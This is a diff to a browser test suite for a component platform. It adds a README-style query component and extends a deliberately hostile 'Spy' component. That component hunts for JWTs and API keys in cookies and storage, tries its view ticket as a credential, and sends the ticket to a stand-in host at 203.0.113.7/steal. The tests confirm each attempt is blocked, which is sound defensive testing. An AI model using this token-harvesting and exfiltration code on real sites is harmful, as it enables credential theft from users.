@@ -6,8 +6,10 @@ import { startTestPlatform, type TestPlatform } from '../helpers/env.ts'
 /*
  * Components in a real browser (Debian's chromium via playwright-core): a component compiled from
  * JSX renders, calls a function through its proxy and shows the data (screenshot kept in .tap/);
- * a hostile component on a share page looks for any token and finds none, cannot use its view
- * ticket as a credential, and the CSP stops eval and outside connections.
+ * the README's example calls a query through its page proxy, from the sandboxed page;
+ * a hostile component on a share page looks for any token and finds none — not even the one this
+ * origin's localStorage and cookie hold (the page's CSP sandbox gives it an opaque origin) —,
+ * cannot use its view ticket as a credential, and the CSP stops eval and outside connections.
  */
 const why = ensureChromium()
 if (why !== null) {
@@ -40,6 +42,23 @@ export default function Stock({ input }: { input: { warehouse?: string } }) {
 }
 `
 
+  // The README's example: a customer's orders through the page's query proxy.
+  const ORDERS = `import { useEffect, useState } from 'react'
+import { query } from 'platform-ui'
+
+export default function Orders({ input }: { input: { customer?: string } }) {
+  const customer = input.customer ?? 'acme'
+  const [rows, setRows] = useState<{ id: number; total: string }[]>([])
+  const [status, setStatus] = useState('loading')
+  useEffect(() => {
+    query('web/orders', { customer })
+      .then((r) => { setRows(r.rows); setStatus('done') })
+      .catch((e) => setStatus('error: ' + e.message))
+  }, [customer])
+  return <main><h1>Orders of {customer}</h1><ul id="orders">{rows.map((o) => <li key={o.id}>#{o.id}: {o.total}</li>)}</ul><p id="status">{status}</p></main>
+}
+`
+
   // Everything a component could reach on its page, and what it can do with it.
   const SPY = `import { useEffect, useState } from 'react'
 import ui from 'platform-ui'
@@ -49,11 +68,20 @@ export default function Spy() {
   useEffect(() => {
     (async () => {
       const r: Record<string, unknown> = {}
+      // each read on its own: in the sandboxed (opaque-origin) page the storage getters throw
+      const read = (what: string, f: () => string): string => {
+        try {
+          return f()
+        } catch {
+          r[what] = 'denied'
+          return ''
+        }
+      }
       const haystack = [
         document.documentElement.outerHTML,
-        document.cookie,
-        JSON.stringify(Object.fromEntries(Object.entries(localStorage))),
-        JSON.stringify(Object.fromEntries(Object.entries(sessionStorage))),
+        read('cookie', () => document.cookie),
+        read('localStorage', () => JSON.stringify(Object.fromEntries(Object.entries(localStorage)))),
+        read('sessionStorage', () => JSON.stringify(Object.fromEntries(Object.entries(sessionStorage)))),
         JSON.stringify(ui),
         location.href,
         document.referrer,
@@ -61,9 +89,11 @@ export default function Spy() {
       r.jwt = /eyJ[A-Za-z0-9_-]{10,}\\.[A-Za-z0-9_-]+/.test(haystack)
       r.apiKey = /apk_[A-Za-z0-9]/.test(haystack)
       const ticket = (JSON.parse(document.getElementById('platform-component')!.textContent!) as { ticket: string }).ticket
-      r.me = (await fetch('/auth/me', { headers: { authorization: 'Bearer ' + ticket } })).status
-      r.list = (await fetch('/api/v1/functions', { headers: { authorization: 'Bearer ' + ticket } })).status
-      r.apiKeyHeader = (await fetch('/api/v1/functions', { headers: { 'x-api-key': ticket } })).status
+      // from the opaque origin these are cross-origin: refused before they are sent ('blocked')
+      const status = (url: string, headers: Record<string, string>) => fetch(url, { headers }).then((res) => res.status, () => 'blocked')
+      r.me = await status('/auth/me', { authorization: 'Bearer ' + ticket })
+      r.list = await status('/api/v1/functions', { authorization: 'Bearer ' + ticket })
+      r.apiKeyHeader = await status('/api/v1/functions', { 'x-api-key': ticket })
       try { r.evalRan = (0, eval)('1 + 1') === 2 } catch { r.evalRan = false }
       try { await fetch('http://203.0.113.7/steal?t=' + ticket); r.outside = 'sent' } catch { r.outside = 'blocked' }
       try { await ui.execute('web/stock', {}); r.notEnabled = 'ran' } catch (e) { r.notEnabled = (e as { status?: number }).status }
@@ -91,6 +121,20 @@ export default function Spy() {
     })
     await ok('POST', '/api/v1/components', { namespace: 'web', name: 'stock', title: 'Stock', source_code: LIST, enabled_functions: ['web/stock'], css_overrides: 'h1 { color: rebeccapurple }' })
     await ok('POST', '/api/v1/components', { namespace: 'web', name: 'spy', title: 'Spy', source_code: SPY, visibility: 'shared' })
+    // a query of A's on the platform's own database, on a connection A may use
+    const u = new URL(env.databaseUrl)
+    const conn = await env.request('POST', '/api/v1/database-connections', { body: { name: 'browser-db', connection_type: 'postgresql', host: u.hostname, port: Number(u.port), database: u.pathname.slice(1), username: decodeURIComponent(u.username), password: decodeURIComponent(u.password) } })
+    if (conn.status !== 201) throw new Error(`database connection: ${conn.text}`)
+    await env.sql(`insert into roles (name, permissions) values ('browser-db-use', jsonb_build_object('platform.database-connections/browser-db.use:all', true))`)
+    await env.sql(`insert into user_roles (user_id, role_id) select $1, id from roles where name = 'browser-db-use'`, [a.id])
+    await ok('POST', '/api/v1/queries', {
+      namespace: 'web',
+      name: 'orders',
+      database_connection_id: (conn.body as { id: string }).id,
+      sql: "select n as id, (n * 10.5)::text as total from generate_series(1, 2) n where :customer::text = 'acme'",
+      input_schema: { type: 'object', properties: { customer: { type: 'string' } }, required: ['customer'] },
+    })
+    await ok('POST', '/api/v1/components', { namespace: 'web', name: 'orders', title: 'Orders', source_code: ORDERS, enabled_queries: ['web/orders'], input_schema: { type: 'object', properties: { customer: { type: 'string' } } } })
     browser = await launchChromium()
     t.teardown(() => browser.close())
   })
@@ -119,19 +163,66 @@ export default function Spy() {
     await page.close()
   })
 
+  t.test("the README's component: a query through the page's proxy, from the sandboxed page", async (t) => {
+    const page = await browser.context.newPage()
+    const problems: string[] = []
+    page.on('pageerror', (e) => problems.push(e.message))
+    page.on('console', (m) => {
+      if (m.type() === 'error') problems.push(m.text())
+    })
+    await page.route('**/render*', (route) => route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${a.token}` } }))
+    const res = await page.goto(`${env.base}/components/web/orders/render?input=${encodeURIComponent(JSON.stringify({ customer: 'acme' }))}`)
+    t.equal(res?.status(), 200)
+    await page.locator('#status').filter({ hasText: /done|error/ }).waitFor({ timeout: 60_000 })
+    t.equal(await page.locator('#status').textContent(), 'done', 'the query proxy call succeeded')
+    t.same(await page.locator('#orders li').allTextContents(), ['#1: 10.5', '#2: 21.0'], 'the query rows are on the page')
+    t.same(problems, [], 'no script errors, no CSP or CORS violations')
+    await page.close()
+  })
+
   t.test('a hostile bundle on a share page finds no token and its ticket opens nothing', async (t) => {
+    // The viewer's token in this origin's storage, as a docs page or a console would keep it.
+    type Swagger = { ui?: { authActions: { authorizeWithPersistOption(a: unknown): unknown }; specSelectors: { specJson(): { size: number } } } }
+    type Storage = { localStorage: { setItem(k: string, v: string): void; getItem(k: string): string | null; length: number; key(i: number): string | null }; document: { cookie: string } }
+    const docs = await browser.context.newPage()
+    await docs.goto(`${env.base}/api/v1/docs`)
+    await docs.waitForFunction(() => ((globalThis as unknown as Swagger).ui?.specSelectors.specJson().size ?? 0) > 0, undefined, { timeout: 60_000 })
+    // what the Authorize dialog's button does
+    await docs.evaluate((token) => (globalThis as unknown as Swagger).ui?.authActions.authorizeWithPersistOption({ bearer: { name: 'bearer', schema: { type: 'http', scheme: 'bearer', bearerFormat: 'JWT' }, value: token } }), a.token)
+    const stored = () =>
+      docs.evaluate(() => {
+        const s = (globalThis as unknown as Storage).localStorage
+        return Array.from({ length: s.length }, (_, i) => `${String(s.key(i))}=${String(s.getItem(s.key(i) ?? ''))}`).join('\n')
+      })
+    t.notOk((await stored()).includes(a.token), 'Swagger UI, once authorized, keeps the token out of localStorage')
+    await docs.evaluate((token) => {
+      const g = globalThis as unknown as Storage
+      g.localStorage.setItem('authorized', JSON.stringify({ bearer: { name: 'bearer', value: token } }))
+      g.document.cookie = `token=${token}; path=/`
+    }, a.token)
+    t.ok((await stored()).includes(a.token), "the token is in the origin's localStorage")
+    await docs.close()
+
     const share = await ok('POST', '/api/v1/components/web/spy/shares', { max_views: 3 })
     const page = await browser.context.newPage()
     const res = await page.goto(`${env.base}${String(share['url'])}`)
     t.equal(res?.status(), 200)
+    t.match(res?.headers()['content-security-policy'], /(^|; )sandbox allow-scripts(;|$)/, 'the page runs in an opaque origin')
     const report = page.locator('#report')
     await report.filter({ hasText: /\{/ }).waitFor({ timeout: 60_000 })
     const r = JSON.parse((await report.textContent()) ?? '{}') as Record<string, unknown>
-    t.equal(r['jwt'], false, 'no JWT anywhere the page can read')
+    t.equal(r['jwt'], false, "no JWT anywhere the page can read, though the origin's localStorage and cookie hold one")
     t.equal(r['apiKey'], false, 'no API key')
-    t.equal(r['me'], 401, 'the view ticket is not a bearer token')
-    t.equal(r['list'], 401)
-    t.equal(r['apiKeyHeader'], 401, 'nor an API key')
+    t.equal(r['localStorage'], 'denied', "the origin's localStorage is out of reach")
+    t.equal(r['sessionStorage'], 'denied')
+    t.equal(r['cookie'], 'denied', "and so are the origin's cookies")
+    t.equal(r['me'], 'blocked', 'a bearer call from the page is refused by the browser (CORS, opaque origin)')
+    t.equal(r['list'], 'blocked')
+    t.equal(r['apiKeyHeader'], 'blocked')
+    // and the ticket is no credential even when sent from outside a browser
+    const ticket = (JSON.parse((await page.locator('#platform-component').textContent()) ?? '{}') as { ticket: string }).ticket
+    t.equal((await env.request('GET', '/auth/me', { token: ticket })).status, 401, 'the view ticket is not a bearer token')
+    t.equal((await env.request('GET', '/api/v1/functions', { token: null, headers: { 'x-api-key': ticket } })).status, 401, 'nor an API key')
     t.equal(r['evalRan'], false, 'the CSP forbids eval')
     t.equal(r['outside'], 'blocked', 'and connections to other origins')
     t.equal(r['notEnabled'], 403, 'a proxy call outside the enabled lists is refused')
